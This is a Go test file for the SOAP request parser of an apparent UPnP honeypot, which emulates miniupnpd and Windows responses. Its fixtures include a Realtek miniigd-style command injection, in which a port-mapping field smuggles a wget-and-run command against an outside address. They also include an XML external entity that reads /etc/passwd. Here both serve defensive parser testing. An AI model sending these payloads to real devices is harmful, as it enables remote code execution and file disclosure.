package upnp

import (
	"encoding/xml"
	"strings"
	"testing"

	"github.com/smallpot/smallpot/internal/event"
)

// envelope wraps an action element as miniupnpc sends it.
func envelope(svc, action, args string) string {
	return `<?xml version="1.0"?>` + "\r\n" +
		`<s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/" s:encodingStyle="http://schemas.xmlsoap.org/soap/encoding/">` +
		`<s:Body><u:` + action + ` xmlns:u="` + svc + `">` + args + `</u:` + action + `></s:Body></s:Envelope>` + "\r\n"
}

const wanIP1 = "urn:schemas-upnp-org:service:WANIPConnection:1"

var addPortMappingArgs = "<NewRemoteHost></NewRemoteHost><NewExternalPort>8080</NewExternalPort><NewProtocol>TCP</NewProtocol>" +
	"<NewInternalPort>8080</NewInternalPort><NewInternalClient>192.168.1.1</NewInternalClient><NewEnabled>1</NewEnabled>" +
	"<NewPortMappingDescription>test map</NewPortMappingDescription><NewLeaseDuration>0</NewLeaseDuration>"

var soapTable = []struct {
	name, body      string
	svc, action     string
	args            []event.Header
	malformedPrefix string
}{
	{name: "no args", body: envelope(wanIP1, "GetExternalIPAddress", ""), svc: wanIP1, action: "GetExternalIPAddress"},
	{name: "AddPortMapping", body: envelope(wanIP1, "AddPortMapping", addPortMappingArgs), svc: wanIP1, action: "AddPortMapping",
		args: kv("NewRemoteHost", "", "NewExternalPort", "8080", "NewProtocol", "TCP", "NewInternalPort", "8080", "NewInternalClient", "192.168.1.1", "NewEnabled", "1", "NewPortMappingDescription", "test map", "NewLeaseDuration", "0")},
	{name: "windows prefixes, whitespace", svc: wanIP1, action: "DeletePortMapping",
		body: "<?xml version=\"1.0\"?>\n<SOAP-ENV:Envelope xmlns:SOAP-ENV=\"http://schemas.xmlsoap.org/soap/envelope/\">\n <SOAP-ENV:Body>\n  <m:DeletePortMapping xmlns:m=\"" + wanIP1 + "\">\n   <NewExternalPort>22</NewExternalPort>\n  </m:DeletePortMapping>\n </SOAP-ENV:Body>\n</SOAP-ENV:Envelope>\n",
		args: kv("NewExternalPort", "22")},
	{name: "escaped values and CDATA, the Realtek miniigd injection shape", svc: wanIP1, action: "AddPortMapping",
		body: envelope(wanIP1, "AddPortMapping", "<NewInternalClient>`cd /tmp;wget http://198.51.100.7/x &amp;&amp; sh x`</NewInternalClient><NewPortMappingDescription><![CDATA[<b>]]></NewPortMappingDescription>"),
		args: kv("NewInternalClient", "`cd /tmp;wget http://198.51.100.7/x && sh x`", "NewPortMappingDescription", "<b>")},
	{name: "nested value", svc: wanIP1, action: "X", body: envelope(wanIP1, "X", "<A><b>1</b><c>2</c></A>"), args: kv("A", "12")},
	{name: "garbage", body: "hello", malformedPrefix: "no action element"},
	{name: "not an envelope", body: "<foo><bar/></foo>", malformedPrefix: "root element is not an Envelope"},
	{name: "cut short", body: envelope(wanIP1, "AddPortMapping", addPortMappingArgs)[:300], svc: wanIP1, action: "AddPortMapping",
		args: kv("NewRemoteHost", "", "NewExternalPort", "8080"), malformedPrefix: "xml: "},
	{name: "external entity", body: `<?xml version="1.0"?><!DOCTYPE s [<!ENTITY x SYSTEM "file:///etc/passwd">]>` + envelope(wanIP1, "A", "<B>&x;</B>")[21:],
		svc: wanIP1, action: "A", malformedPrefix: "xml: "},
	{name: "deep", body: "<s:Envelope xmlns:s=\"e\"><s:Body>" + strings.Repeat("<a>", 40), action: "a", malformedPrefix: "elements nested deeper"},
	{name: "too many tokens", body: "<s:Envelope xmlns:s=\"e\"><s:Body><a>" + strings.Repeat("<b/>", maxSOAPTokens), action: "a", malformedPrefix: "token budget"},
}

func TestParseSOAP(t *testing.T) {
	for _, tt := range soapTable {
		t.Run(tt.name, func(t *testing.T) {
			c := parseSOAP([]byte(tt.body))
			if c.Service != tt.svc || c.Action != tt.action {
				t.Errorf("service %q action %q, want %q %q", c.Service, c.Action, tt.svc, tt.action)
			}
			if !equalArgs(c.Args, tt.args) && !(tt.name == "deep" || tt.name == "too many tokens") {
				t.Errorf("args %q, want %q", c.Args, tt.args)
			}
			if tt.malformedPrefix == "" && c.Malformed != "" || !strings.HasPrefix(c.Malformed, tt.malformedPrefix) {
				t.Errorf("malformed %q, want prefix %q", c.Malformed, tt.malformedPrefix)
			}
		})
	}
}

func equalArgs(a, b []event.Header) bool {
	if len(a) != len(b) {
		return false
	}
	for i := range a {
		if a[i] != b[i] {
			return false
		}
	}
	return true
}

func TestParseSOAPBounds(t *testing.T) {
	var args strings.Builder
	for range maxSOAPArgs + 10 {
		args.WriteString("<A>" + strings.Repeat("v", 3000) + "</A>")
	}
	c := parseSOAP([]byte(envelope(wanIP1, "X", args.String())))
	if len(c.Args) != maxSOAPArgs {
		t.Errorf("%d args kept, want %d", len(c.Args), maxSOAPArgs)
	}
	for _, a := range c.Args {
		if len(a.Value) > maxArgValue {
			t.Fatalf("value of %d bytes, want at most %d", len(a.Value), maxArgValue)
		}
	}
}

func TestParseSOAPAction(t *testing.T) {
	for _, tt := range []struct {
		in, svc, action string
		ok              bool
	}{
		{`"urn:schemas-upnp-org:service:WANIPConnection:1#AddPortMapping"`, wanIP1, "AddPortMapping", true},
		{`urn:schemas-upnp-org:service:WANIPConnection:1#GetExternalIPAddress`, wanIP1, "GetExternalIPAddress", true},
		{` "a#b#c" `, "a#b", "c", true},
		{`"urn:x"`, "", "", false},
		{`"urn:x#"`, "", "", false},
		{``, "", "", false},
	} {
		svc, action, ok := parseSOAPAction(tt.in)
		if svc != tt.svc || action != tt.action || ok != tt.ok {
			t.Errorf("parseSOAPAction(%q) = %q, %q, %v; want %q, %q, %v", tt.in, svc, action, ok, tt.svc, tt.action, tt.ok)
		}
	}
}

// miniupnpd's answers, byte for byte as miniupnpd 2.3.1 sent them.
func TestSOAPRenderMiniUPnPd(t *testing.T) {
	for _, tt := range []struct{ got, want string }{
		{soapResponse(kindMiniUPnPd, wanIP1, "GetExternalIPAddress", kv("NewExternalIPAddress", "81.2.69.142")),
			`<?xml version="1.0"?>` + "\r\n" + `<s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/" s:encodingStyle="http://schemas.xmlsoap.org/soap/encoding/"><s:Body><u:GetExternalIPAddressResponse xmlns:u="urn:schemas-upnp-org:service:WANIPConnection:1"><NewExternalIPAddress>81.2.69.142</NewExternalIPAddress></u:GetExternalIPAddressResponse></s:Body></s:Envelope>` + "\r\n"},
		{soapResponse(kindMiniUPnPd, wanIP1, "AddPortMapping", nil),
			`<?xml version="1.0"?>` + "\r\n" + `<s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/" s:encodingStyle="http://schemas.xmlsoap.org/soap/encoding/"><s:Body><u:AddPortMappingResponse xmlns:u="urn:schemas-upnp-org:service:WANIPConnection:1"/></s:Body></s:Envelope>` + "\r\n"},
		{soapResponse(kindMiniUPnPd, wanIP1, "DeletePortMapping", nil),
			`<?xml version="1.0"?>` + "\r\n" + `<s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/" s:encodingStyle="http://schemas.xmlsoap.org/soap/encoding/"><s:Body><u:DeletePortMappingResponse xmlns:u="urn:schemas-upnp-org:service:WANIPConnection:1"></u:DeletePortMappingResponse></s:Body></s:Envelope>` + "\r\n"},
		{soapFault(kindMiniUPnPd, 713),
			`<s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/" s:encodingStyle="http://schemas.xmlsoap.org/soap/encoding/"><s:Body><s:Fault><faultcode>s:Client</faultcode><faultstring>UPnPError</faultstring><detail><UPnPError xmlns="urn:schemas-upnp-org:control-1-0"><errorCode>713</errorCode><errorDescription>SpecifiedArrayIndexInvalid</errorDescription></UPnPError></detail></s:Fault></s:Body></s:Envelope>`},
		{soapFault(kindMiniUPnPd, 401),
			`<s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/" s:encodingStyle="http://schemas.xmlsoap.org/soap/encoding/"><s:Body><s:Fault><faultcode>s:Client</faultcode><faultstring>UPnPError</faultstring><detail><UPnPError xmlns="urn:schemas-upnp-org:control-1-0"><errorCode>401</errorCode><errorDescription>Invalid Action</errorDescription></UPnPError></detail></s:Fault></s:Body></s:Envelope>`},
		// The pages' lengths are those miniupnpd announced: 134 and 149.
		{string(rune(len(mini404))), string(rune(134))},
		{string(rune(len(mini501))), string(rune(149))},
	} {
		if tt.got != tt.want {
			t.Errorf("\n got %q\nwant %q", tt.got, tt.want)
		}
	}
}

// HTTP.sys's error pages have the lengths HTTP.sys announces for them.
func TestHTTPAPIPages(t *testing.T) {
	for _, tt := range []struct {
		r    reply
		size int
	}{{httpapi404, 315}, {httpapi400, 311}, {httpapi400Host, 334}} {
		if len(tt.r.Body) != tt.size {
			t.Errorf("%d page of %d bytes, want %d", tt.r.Status, len(tt.r.Body), tt.size)
		}
	}
}

// Every rendered document is well-formed XML, whatever the values.
func TestRenderedXMLIsWellFormed(t *testing.T) {
	hostile := kv("NewPortMappingDescription", `</x><y a="'&`)
	docs := []string{
		soapResponse(kindMiniUPnPd, wanIP1, "GetSpecificPortMappingEntry", hostile),
		soapResponse(kindWindows, wanIP1, "GetSpecificPortMappingEntry", hostile),
		soapFault(kindWindows, 718), soapFault(kindMiniUPnPd, 501),
		scpdWANIP.render(kindMiniUPnPd), scpdOSInfo.render(kindWindows),
	}
	for _, k := range []string{"windows2000", "linux-iot"} {
		s := newTestServer(t, k, func(c *Config) { c.Persona.FriendlyName = `a<b>&"c"` })
		docs = append(docs, s.tree.description(s.kind, "192.0.2.1:5000"))
	}
	for _, d := range docs {
		dec := xml.NewDecoder(strings.NewReader(d))
		for {
			_, err := dec.Token()
			if err != nil {
				if err.Error() != "EOF" {
					t.Errorf("not well-formed (%v):\n%s", err, d)
				}
				break
			}
		}
	}
}
